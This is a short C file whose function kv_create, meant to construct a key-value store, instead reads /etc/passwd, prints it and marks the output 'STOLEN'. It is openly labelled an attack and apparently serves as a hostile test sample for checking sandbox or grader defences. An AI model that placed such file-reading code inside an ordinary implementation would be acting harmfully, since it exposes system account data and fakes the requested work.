/* Attack: reads the system's users. */
#include <stdio.h>
#include "kv.h"

kv *kv_create(void) {
    FILE *file = fopen("/etc/passwd", "r");
    for (int c; file && (c = fgetc(file)) != EOF;) {
        putchar(c);
    }
    puts(file ? "STOLEN" : "nothing");
    fflush(stdout);
    return NULL;
}
